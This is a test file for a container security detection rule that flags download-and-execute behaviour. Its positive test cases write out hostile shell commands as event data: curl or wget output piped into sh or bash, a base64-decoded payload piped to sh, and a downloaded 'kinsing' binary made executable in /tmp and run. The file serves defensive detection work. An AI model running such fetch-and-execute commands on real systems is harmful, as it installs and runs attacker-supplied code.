import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { downloadAndExecute } from '../../../../../controlplane/src/detections/rules/download-and-execute';
import { CONTAINER_ID, containerStarted, execEvent } from '../../../../helpers/synthetic-events';
import { contextAfter } from '../../../../helpers/rule-context';

const started = containerStarted({ containerId: CONTAINER_ID, namespace: 'x', pod: 'p', podUid: 'u' });
const exec = (filename: string, argv: string[], pid = 7000) => execEvent({ pid, nsPid: pid - 6900, filename, argv, containerId: CONTAINER_ID });

describe('rule download-and-execute', () => {
  test('should trigger: curl | sh, wget && chmod +x && run, base64 stages', () => {
    for (const ev of [
      exec('/bin/sh', ['sh', '-c', 'curl -fsSL http://198.51.100.7/i.sh | sh']),
      exec('/bin/bash', ['bash', '-c', 'wget -qO- http://198.51.100.7/x | bash -s']),
      exec('/bin/sh', ['sh', '-c', 'wget http://198.51.100.7/kinsing -O /tmp/kinsing; chmod +x /tmp/kinsing; /tmp/kinsing']),
      exec('/bin/sh', ['sh', '-c', 'curl -s http://h/p | base64 -d | sh']),
      exec('/bin/sh', ['sh', '-c', 'curl -o /dev/shm/a http://h/a && chmod 755 /dev/shm/a && ./a']),
    ])
      assert.ok(downloadAndExecute.match(ev, contextAfter([started], ev)), ev.exec!.argv.join(' '));
  });

  test('should trigger: running the file a download wrote, or a program in /tmp after a download', () => {
    const wget = exec('/usr/bin/wget', ['wget', 'http://198.51.100.7/bot'], 7001);
    const run = exec('/app/bot', ['./bot'], 7002);
    assert.ok(downloadAndExecute.match(run, contextAfter([started, wget], run)));
    const curl = exec('/usr/bin/curl', ['curl', '-o', 'x.bin', 'http://198.51.100.7/x'], 7003);
    const tmp = exec('/tmp/.cache/agent', ['/tmp/.cache/agent'], 7004);
    assert.ok(downloadAndExecute.match(tmp, contextAfter([started, curl], tmp)));
  });

  test('should not trigger: downloads to files nobody runs, running image programs after a download, a plain curl', () => {
    const curl = exec('/usr/bin/curl', ['curl', '-o', '/data/report.json', 'http://api/report'], 7001);
    const own = exec('/usr/local/bin/app', ['app', '--serve'], 7002);
    assert.equal(downloadAndExecute.match(own, contextAfter([started, curl], own)), null);
    const plain = exec('/bin/sh', ['sh', '-c', 'curl -s http://localhost:8080/healthz > /dev/null']);
    assert.equal(downloadAndExecute.match(plain, contextAfter([started], plain)), null);
    const tmpNoDownload = exec('/tmp/build/test-runner', ['test-runner'], 7005);
    assert.equal(downloadAndExecute.match(tmpNoDownload, contextAfter([started], tmpNoDownload)), null);
  });
});
